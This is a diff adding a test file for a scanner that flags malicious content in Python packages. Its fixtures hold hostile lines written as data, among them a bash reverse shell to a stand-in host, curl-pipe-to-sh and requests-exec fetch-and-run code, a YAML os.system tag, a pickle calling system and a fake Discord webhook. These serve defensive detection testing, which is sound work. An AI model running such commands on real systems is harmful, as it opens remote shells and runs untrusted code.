@@ -1,0 +1,119 @@
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { analyseArchive } from '../../../src/analysis/analyse-archive.js';
+import type { ArchiveAnalysis } from '../../../src/core/archive-analysis.js';
+import type { Rule } from '../../../src/core/rule.js';
+import { loadPythonParser } from '../../../src/python/parser.js';
+import compiledCode from '../../../src/rules/compiled-code.js';
+import dataCallsCode from '../../../src/rules/data-calls-code.js';
+import dropTokenInData from '../../../src/rules/drop-token-in-data.js';
+import downloadThenRun from '../../../src/rules/download-then-run.js';
+import hiddenCharacters from '../../../src/rules/hidden-characters.js';
+import nativeOutOfPlace from '../../../src/rules/native-out-of-place.js';
+import nativeStrings from '../../../src/rules/native-strings.js';
+import scriptCommands from '../../../src/rules/script-commands.js';
+import startsShippedProgram from '../../../src/rules/starts-shipped-program.js';
+import { zipOf } from '../../archive/hostile-zip.js';
+import { inFolder } from '../../archive/reading.js';
+import { byteCodeOf } from '../../formats/byte-codes.js';
+import { byStack } from '../../formats/pickles.js';
+import { WASM_FILES } from '../../python/reading.js';
+import { analysedSdist } from '../build/trees.js';
+
+const parser = loadPythonParser({ ...WASM_FILES, backend: 'wasm' });
+
+type Files = Readonly<Record<string, string | Buffer>>;
+
+async function analysedWheel(files: Files, rules: Readonly<Record<string, Rule>>): Promise<ArchiveAnalysis> {
+  const bytes = zipOf(Object.entries({ ...files, 'garden-1.0.dist-info/METADATA': 'Name: garden\n' }).map(([name, data]) => ({ name, data })));
+  return inFolder(async (folder) => {
+    const path = join(folder, 'garden-1.0-py3-none-any.whl');
+    await writeFile(path, bytes);
+    return analyseArchive(path, { rules, loadParser: () => parser }, { name: null, version: null });
+  });
+}
+
+/** Findings as `severity file`, worst first. */
+async function told(files: Files, rules: Readonly<Record<string, Rule>>): Promise<readonly string[]> {
+  return (await analysedWheel(files, rules)).findings.map(({ severity, file }) => `${severity} ${file}`);
+}
+
+const large = 'x = 1\n'.repeat(12_000);
+
+test('a pickle is known by its suffix, or by its first bytes under any name', async () => {
+  const files = { 'garden/a.pkl': byStack('posix', 'system'), 'garden/b.png': byStack('posix', 'system'), 'garden/c.pkl': byStack('garden', 'Plant') };
+  expect(await told(files, { dataCallsCode })).toEqual(['critical garden/a.pkl', 'critical garden/b.png']);
+});
+
+test('tags of YAML are data that calls code', async () => {
+  expect(await told({ 'garden/a.yml': 'x: !!python/object/apply:os.system [""]\n', 'garden/b.yml': 'x: !!python/tuple [1]\n' }, { dataCallsCode })).toEqual(['critical garden/a.yml']);
+});
+
+test('a compiled module is set against its source', async () => {
+  const hidden = { names: ['b64decode', 'exec'] };
+  const files = {
+    'garden/__init__.py': large,
+    'garden/a.pyc': byteCodeOf(hidden),
+    'garden/b.py': 'x = 1\n',
+    'garden/__pycache__/b.cpython-312.pyc': byteCodeOf(hidden, { sourceBytes: 6 }),
+    'garden/c.py': 'x = 1\n',
+    'garden/__pycache__/c.cpython-312.pyc': byteCodeOf({}, { sourceBytes: 7 }),
+    'garden/d.py': 'x = 1\n',
+    'garden/__pycache__/d.cpython-312.pyc': byteCodeOf({}, { flags: 1 }),
+  };
+  expect(await told(files, { compiledCode })).toEqual(['critical garden/a.pyc', 'medium garden/__pycache__/c.cpython-312.pyc', 'medium garden/__pycache__/d.cpython-312.pyc']);
+});
+
+const FETCHES = 'import requests\nexec(requests.get("https://garden.invalid").text)\n';
+
+test('a data file that a module runs on import is judged as code that runs on import', async () => {
+  const runs = 'import os\nexec(open(os.path.join(os.path.dirname(__file__), "seeds.txt")).read())\n';
+  expect(await told({ 'garden/__init__.py': runs, 'garden/seeds.txt': FETCHES }, { downloadThenRun })).toEqual(['critical garden/seeds.txt']);
+});
+
+test('a data file that nobody runs is no code, and a template that is no Python is only listed', async () => {
+  const { findings, gaps } = await analysedWheel({ 'garden/__init__.py': 'exec(open("garden/seeds.txt").read())\n', 'garden/seeds.txt': 'exec {{ x }} (', 'garden/other.txt': FETCHES }, { downloadThenRun });
+  expect(findings).toEqual([]);
+  expect(gaps).toMatchObject([{ kind: 'data', what: 'garden/seeds.txt' }]);
+});
+
+test('the same holds in a source archive', async () => {
+  const analysis = await analysedSdist({ 'pyproject.toml': '', 'garden/__init__.py': 'exec(open("garden/seeds.txt").read())\n', 'garden/seeds.txt': FETCHES }, { downloadThenRun });
+  expect(analysis.findings).toMatchObject([{ severity: 'critical', file: 'g-1/garden/seeds.txt' }]);
+});
+
+test('cells of a notebook are judged as code that somebody has to call', async () => {
+  const notebook = JSON.stringify({ cells: [{ cell_type: 'code', source: ['%pip install x\n', ...FETCHES.split(/(?<=\n)/)] }] });
+  expect(await told({ 'garden/__init__.py': large, 'garden/a.ipynb': notebook }, { downloadThenRun })).toEqual(['medium garden/a.ipynb']);
+});
+
+test('scripts are read by their suffix, and in the folder for commands by their first line', async () => {
+  const shell = '#!/bin/sh\nbash -i >& /dev/tcp/garden.invalid/1 0>&1\n';
+  const waits = '#!/bin/sh\n(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1\n';
+  const files = { 'garden/__init__.py': large, 'garden/a.sh': shell, 'garden-1.0.data/scripts/dig': shell, 'garden/b.txt': shell, 'garden/wait.sh': waits };
+  expect(await told(files, { scriptCommands })).toEqual(['medium garden-1.0.data/scripts/dig', 'medium garden/a.sh']);
+});
+
+test('a program that an import starts is named, and decides in a package that holds little else', async () => {
+  const starts = 'import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), "dig.exe")])\n';
+  const files = { 'garden/__init__.py': starts, 'garden/dig.exe': 'MZ' };
+  expect(await told(files, { startsShippedProgram })).toEqual(['critical garden/__init__.py']);
+  expect(await told({ ...files, 'garden/large.py': large }, { startsShippedProgram })).toEqual(['medium garden/__init__.py']);
+});
+
+test('machine code tells the texts in it, and where it has no place', async () => {
+  const files = { 'garden/__init__.py': large, 'garden/a.exe': 'MZ\0powershell -w hidden -c dig\0', 'garden/b.png': '\x7fELF\x02\x01\x01\0' };
+  expect(await told(files, { nativeStrings, nativeOutOfPlace })).toEqual(['medium garden/b.png', 'low garden/a.exe', 'low garden/a.exe']);
+});
+
+test('hidden text is told with its line', async () => {
+  const { findings } = await analysedWheel({ 'garden/__init__.py': 'x = 1\n\uff45xec(x)\n' }, { hiddenCharacters });
+  expect(findings).toMatchObject([{ severity: 'critical', file: 'garden/__init__.py', line: 2, snippet: '\uff45xec(x)' }]);
+});
+
+test('a token in settings is told, and what a script for Node fetches and runs', async () => {
+  const token = `https://discord.com/api/webhooks/${'1'.repeat(18)}/${'a1'.repeat(34)}`;
+  const files = { 'garden/__init__.py': large, 'garden/config.json': `{"to": "${token}"}`, 'garden/a.js': 'require("child_process").execSync("curl https://garden.invalid/a | sh")' };
+  expect(await told(files, { dropTokenInData, scriptCommands })).toEqual(['medium garden/config.json', 'low garden/a.js']);
+});
